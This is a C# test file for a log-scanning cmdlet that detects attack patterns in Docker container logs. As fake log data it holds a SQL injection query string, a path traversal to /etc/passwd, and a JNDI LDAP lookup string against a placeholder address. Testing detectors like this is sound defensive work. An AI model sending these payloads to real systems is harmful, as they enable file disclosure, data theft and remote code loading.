using OpsModule.Cmdlets.Tests.Running;
using OpsModule.Engine.Areas.Attacks;
using OpsModule.Engine.Tests.Fixtures;

namespace OpsModule.Cmdlets.Tests.Attacks;

/// <summary>Attacks in the logs of real containers.</summary>
[Collection(DockerCollection.Name)]
public sealed class AttackServiceTests : IDisposable
{
    private readonly string _folder = Directory.CreateTempSubdirectory("opsmodule-").FullName, _project = "c" + Guid.NewGuid().ToString("N")[..10];

    public AttackServiceTests() => File.WriteAllText(Path.Combine(_folder, "ops.yaml"), $$"""
        environment: shop
        platform: { compose: { file: compose.yaml, project: {{_project}} } }
        """);

    public void Dispose() => Directory.Delete(_folder, recursive: true);

    [Fact]
    public async Task Services_are_scanned_by_name_or_all_of_them()
    {
        await DockerFixture.RunAsync(_project, "api", Say("/item?id=1%27+union+select+1,2,3"));
        await DockerFixture.RunAsync(_project, "web", Say("/a?f=../../../../etc/passwd"));
        AttackMatch api = Assert.Single(await FindAsync("Find-OpsAttackPattern api", 1));
        Assert.Equal((AttackCategory.SqlInjection, "203.0.113.7"), (api.Category, api.ClientAddress));
        Assert.NotNull(api.Time);
        Assert.Equal([AttackCategory.SqlInjection, AttackCategory.PathTraversal], (await FindAsync("Find-OpsAttackPattern -Since 1h", 2)).Select(m => m.Category).Order());
        Assert.Equal(AttackCategory.PathTraversal, Assert.Single(await FindAsync("Get-OpsLog web | Find-OpsAttackPattern", 1)).Category);
        Assert.Equal(AttackCategory.SqlInjection, Assert.Single(await FindAsync("Find-OpsAttackPattern api -Follow | Select-Object -First 1", 1)).Category);
        Assert.Empty(PwshRun.Of("Find-OpsAttackPattern -Until 1h", _folder).Objects);
    }

    [Fact]
    public async Task With_a_baseline_every_line_of_a_busy_service_is_shown_once()
    {
        await DockerFixture.RunAsync(_project, "api", "i=0; trap 'exit 0' TERM; while :; do echo \"request $i \\${jndi:ldap://203.0.113.9/a}\"; i=$((i+1)); sleep 0.02; done");
        var seen = new List<int>();
        for (int runs = 0; runs < 4 || seen.Count < 50; runs++)
        {
            Assert.True(runs < 100);
            PwshRun run = PwshRun.Of("Find-OpsAttackPattern api -Baseline attacks.json", _folder);
            Assert.Empty(run.Errors);
            seen.AddRange(run.Objects.Select(m => int.Parse(((AttackMatch)m).Raw.Split(' ')[1])));
        }
        Assert.Equal(Enumerable.Range(0, seen.Count), seen);
    }

    private static string Say(string target) =>
        $"echo '203.0.113.7 - - [21/Nov/2026:03:16:00 +0000] \"GET {target} HTTP/1.1\" 200 512 \"-\" \"-\"'; trap 'exit 0' TERM; sleep 3600 & wait";

    /// <summary>Again until the engine has what the container wrote.</summary>
    private async Task<AttackMatch[]> FindAsync(string pipeline, int wanted)
    {
        for (int i = 0; ; i++)
        {
            PwshRun run = PwshRun.Of(pipeline, _folder);
            Assert.Empty(run.Errors);
            if (run.Objects.Count >= wanted || i == 50) return [.. run.Objects.Cast<AttackMatch>()];
            await Task.Delay(200);
        }
    }
}
